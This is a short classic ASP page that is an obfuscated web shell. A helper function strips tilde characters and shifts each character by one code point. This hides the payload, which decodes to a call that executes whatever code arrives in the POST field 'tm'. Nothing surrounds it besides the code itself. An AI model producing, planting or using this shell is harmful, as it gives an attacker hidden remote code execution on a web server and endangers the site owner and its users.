<%
Function dx(s)
    Dim t, i, r
    t = Replace(s, "~", "")
    For i = 1 To Len(t)
        r = r & Chr(Asc(Mid(t, i, 1)) - 1)
    Next
    dx = r
End Function
Execute dx("F~y~f~d~v~u~f~!~S~f~r~v~f~t~u~/~G~p~s~n~)~#~u~n~#~*")
%>
